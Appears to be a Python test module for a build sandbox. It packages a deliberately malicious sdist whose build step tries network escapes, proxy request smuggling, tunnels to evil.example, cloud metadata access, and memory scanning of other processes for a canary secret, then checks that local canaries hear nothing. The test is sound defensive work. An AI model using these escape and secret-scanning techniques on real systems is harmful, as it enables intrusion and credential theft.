"""A package that tries to get out while it is built, and who listens for it.

It lies in an index on this machine's loopback, is built from source, and reports what it could do. Beside the index
listen canaries of every kind: a build that reaches one of them is heard there.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import socket
import tarfile
import threading
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from p2c.repo import Repo
from p2c.sandboxes.base import Command, ExecResult, Sandbox
from p2c.sandboxes.environments.refused_hosts import refused_hosts
from tests.sandboxes.environments.test_environments import write_index, write_wheel

SECRET = "canary-word-" + "4711"
BACKEND = r"""
import os, runpy, zipfile
def build_wheel(directory, settings=None, metadata=None):
    runpy.run_path("attack.py")
    info = NAME + "-1.0.dist-info"
    files = {
        NAME + ".py": "version = '1.0'\n",
        info + "/METADATA": "Metadata-Version: 2.1\nName: " + NAME + "\nVersion: 1.0\n",
        info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[info + "/RECORD"] = "".join(path + ",,\n" for path in [*files, info + "/RECORD"])
    with zipfile.ZipFile(os.path.join(directory, NAME + "-1.0-py3-none-any.whl"), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
    return NAME + "-1.0-py3-none-any.whl"
"""
ATTACK = r"""
import glob, json, os, re, socket, subprocess, sys
from urllib.parse import urlsplit
AIMS = json.loads(AIMS_TEXT)
PROXY = urlsplit(os.environ["http_proxy"])
INDEX = urlsplit(os.environ["UV_DEFAULT_INDEX"]).netloc

def connect(family, address, data=b"hello"):
    with socket.socket(family) as one:
        one.settimeout(3); one.connect(address); one.sendall(data)
    return "reached"

def say(*parts):
    with socket.create_connection((PROXY.hostname, PROXY.port), 5) as one:
        answer = b""
        one.settimeout(5)
        try:
            for part in parts:
                one.sendall(part.encode())
            while True:
                more = one.recv(65536)
                if not more: break
                answer += more
        except OSError as error:
            answer = answer or type(error).__name__.encode()
    return answer.decode("latin-1")

def tunnel(target): return say("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))[:12]
def get(url, host, more="", tail=""): return say("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n%s" % (url, host, more, tail))

def scan():
    needle, found, seen = ("4711" "-drow-yranac")[::-1].encode(), [], []
    for place in glob.glob("/proc/[0-9]*"):
        pid = int(place.rpartition("/")[2])
        if pid == os.getpid(): continue
        for name in ("cmdline", "environ"):
            try: data = open(place + "/" + name, "rb").read()
            except OSError: continue
            if name == "cmdline": seen.append(data.replace(b"\0", b" ").decode("latin-1"))
            if needle in data: found.append(name)
        try:
            with open(place + "/maps") as maps, open(place + "/mem", "rb", 0) as memory:
                for line in maps:
                    begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if " rw" not in line or end - begin > 1 << 26: continue
                    try: memory.seek(begin); data = memory.read(end - begin)
                    except OSError: continue
                    if needle in data: found.append("mem")
        except OSError: continue
    if needle in json.dumps(dict(os.environ)).encode(): found.append("own environ")
    return [found, [line for line in seen if "_p2c" in line or "in_sandbox" in line]]

local, bad = "127.0.0.1:%d" % AIMS["tcp"], "127.0.0.1:%d" % AIMS["proxied"]
ATTEMPTS = {
    "tcp": lambda: connect(socket.AF_INET, ("127.0.0.1", AIMS["tcp"])),
    "any": lambda: connect(socket.AF_INET, ("0.0.0.0", AIMS["tcp"])),
    "tcp6": lambda: connect(socket.AF_INET6, ("::1", AIMS["tcp6"])),
    "abstract": lambda: connect(socket.AF_UNIX, "\0" + AIMS["abstract"]),
    "path": lambda: connect(socket.AF_UNIX, AIMS["path"]),
    "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", AIMS["udp"])) and "sent",
    "names": lambda: socket.getaddrinfo("example.org", 443) and "found",
    "private": lambda: connect(socket.AF_INET, ("10.255.255.1", 80)),
    "metadata": lambda: connect(socket.AF_INET, ("169.254.169.254", 80)),
    "public": lambda: connect(socket.AF_INET, ("192.0.2.1", 80)),
    "public6": lambda: connect(socket.AF_INET6, ("2001:db8::1", 80)),
    "datagram": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)) and "sent",
    "raw": lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "packet": lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "interfaces": lambda: sorted(name for _, name in socket.if_nameindex()),
    "tunnel other port": lambda: tunnel(bad),
    "tunnel localhost": lambda: tunnel("localhost:%d" % AIMS["proxied"]),
    "tunnel any": lambda: tunnel("0.0.0.0:%d" % AIMS["proxied"]),
    "tunnel decimal": lambda: tunnel("2130706433:%d" % AIMS["proxied"]),
    "tunnel mapped": lambda: tunnel("[::ffff:127.0.0.1]:%d" % AIMS["proxied"]),
    "tunnel version 6": lambda: tunnel("[::1]:%d" % AIMS["tcp6"]),
    "tunnel name": lambda: tunnel("evil.example:443"),
    "tunnel without tls": lambda: say("CONNECT %s HTTP/1.1\r\n\r\n" % INDEX, "GET /simple/ HTTP/1.1\r\n\r\n")[39:],
    "get other port": lambda: get("http://%s/" % bad, bad)[:12],
    "get name": lambda: get("http://evil.example/", "evil.example")[:12],
    "get with another host": lambda: get("http://%s/simple/" % INDEX, bad)[:12],
    "get with two hosts": lambda: get("http://%s/simple/" % INDEX, INDEX, "Host: %s\r\n" % bad)[:12],
    "get with a body": lambda: get("http://%s/simple/" % INDEX, INDEX, "Content-Length: 99\r\n", "GET http://%s/ HTTP/1.1\r\n\r\n" % bad)[:12],
    "get as another": lambda: get("http://%s@%s/" % (INDEX, bad), INDEX)[:12],
    "get behind": lambda: get("http://%s/simple/" % INDEX, INDEX, "", "GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (bad, bad))[:12],
    "own proxy's memory": scan,
    "index": lambda: get("http://%s/simple/" % INDEX, INDEX)[:12],
}
report = {}
for name in AIMS["attempts"] or ATTEMPTS:
    attempt = ATTEMPTS[name]
    try:
        report[name] = attempt()
    except BaseException as error:
        report[name] = type(error).__name__
with open(os.path.join(AIMS["scratch"], "report.json"), "w") as file:
    json.dump(report, file)
"""  # noqa: E501
DIRECT = ("tcp", "any", "tcp6", "abstract", "path", "udp")
AWAY = ("private", "metadata", "public", "public6", "datagram", "names")


class Canaries:
    """Services of this machine; `heard` is who was reached."""

    def __init__(self, folder: Path) -> None:
        self.heard: list[str] = []
        self._kinds: dict[socket.socket, str] = {}
        path = folder / "canary"
        name = f"p2c-canary-{os.getpid()}-{id(self)}"
        self.aims: dict[str, Any] = {"abstract": name, "path": str(path)}
        for kind, family, address in (
            ("tcp", socket.AF_INET, ("127.0.0.1", 0)),
            ("proxied", socket.AF_INET, ("127.0.0.1", 0)),
            ("tcp6", socket.AF_INET6, ("::1", 0)),
            ("abstract", socket.AF_UNIX, f"\0{name}"),
            ("path", socket.AF_UNIX, str(path)),
            ("udp", socket.AF_INET, ("127.0.0.1", 0)),
        ):
            one = socket.socket(family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
            one.bind(address)
            if kind != "udp":
                one.listen()
            if isinstance(address, tuple):
                self.aims[kind] = one.getsockname()[1]
            self._kinds[one] = kind
            threading.Thread(target=self._listen, args=(kind, one), daemon=True).start()
        path.chmod(0o777)

    def _listen(self, kind: str, one: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                if kind == "udp":
                    one.recv(100)
                else:
                    one.accept()[0].close()
                self.heard.append(kind)

    def heard_besides(self) -> list[str]:
        """Reach each of them from here, wait until that was heard, and return what was heard besides."""
        expected, before = [], Counter(self.heard)
        for one in self._kinds:
            datagram = one.type == socket.SOCK_DGRAM
            with socket.socket(one.family, one.type) as client:
                client.connect(one.getsockname())
                if datagram:
                    client.send(b"x")
            expected.append(self._kinds[one])
        deadline = time.monotonic() + 20
        heard = -1  # of what is still on its way nothing is known, so nothing may have come for a while
        while time.monotonic() < deadline and (
            heard != len(self.heard) or not all(self.heard.count(kind) > before[kind] for kind in expected)
        ):
            heard = len(self.heard)
            time.sleep(0.3)
        return sorted((Counter(self.heard) - Counter(expected)).elements())

    def close(self) -> None:
        for one in self._kinds:
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@dataclass
class Host:
    """This machine as the attacked one: an index in a folder, its address, and the canaries beside it."""

    root: Path
    canaries: Canaries
    port: int = 0
    asked: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/simple"

    def write_sdist(self, name: str, program: str) -> None:
        """Add a package that runs a program when it is built."""
        files = {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "PKG-INFO": f"Metadata-Version: 2.2\nName: {name}\nVersion: 1.0\n",
            "backend.py": f"NAME = {name!r}\n{BACKEND}",
            "attack.py": program,
        }
        (self.root / "files").mkdir(exist_ok=True)
        with tarfile.open(self.root / f"files/{name}-1.0.tar.gz", "w:gz") as archive:
            for path, text in files.items():
                entry = tarfile.TarInfo(f"{name}-1.0/{path}")
                entry.size = len(text.encode())
                archive.addfile(entry, io.BytesIO(text.encode()))
        page = self.root / "simple" / name
        page.mkdir(parents=True, exist_ok=True)
        (page / "index.html").write_text(f'<a href="../../files/{name}-1.0.tar.gz">{name}-1.0.tar.gz</a>\n')


@contextlib.contextmanager
def serving(root: Path, open_folder: Path) -> Iterator[Host]:
    """Serve an index with one honest wheel, with canaries beside it; everybody may look into the second folder."""
    one = Host(root, Canaries(open_folder))
    write_wheel(root / "files", "demo", "2.0")
    write_index(root)

    class Pages(SimpleHTTPRequestHandler):
        def log_message(self, *given: object) -> None:
            one.asked.append(self.path)

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Pages, directory=str(root)))
    one.port = server.server_port
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield one
    one.canaries.close()
    server.shutdown()
    server.server_close()


def begin(sandbox: Sandbox) -> Sandbox:
    sandbox.put(Repo({}))
    sandbox.choose_environment(os.urandom(8).hex())
    sandbox.set_network("install")
    made = uv(sandbox, "venv", "-q", sandbox.places.environment)
    assert made.ok, made.stderr
    return sandbox


def uv(sandbox: Sandbox, *words: str) -> ExecResult:
    return sandbox.exec(Command((f"{sandbox.places.tools}/bin/uv", *words), 120))


def install(sandbox: Sandbox, *names: str) -> ExecResult:
    return uv(sandbox, "pip", "install", "--python", f"{sandbox.places.environment}/bin/python", *names)


def attack(sandbox: Sandbox, host: Host, attempts: tuple[str, ...] = ()) -> dict[str, Any]:
    """Build the package that tries everything, or these attempts alone; return its report."""
    aims = json.dumps({**host.canaries.aims, "scratch": sandbox.places.scratch, "attempts": attempts})
    host.write_sdist("evil", f"AIMS_TEXT = {aims!r}\n{ATTACK}")
    done = install(sandbox, "evil")
    assert done.ok, done.stderr
    report = sandbox.get(f"{sandbox.places.scratch}/report.json")
    assert report is not None, done.stderr
    data: dict[str, Any] = json.loads(report)
    data["refused"] = refused_hosts(done.stderr)
    return data
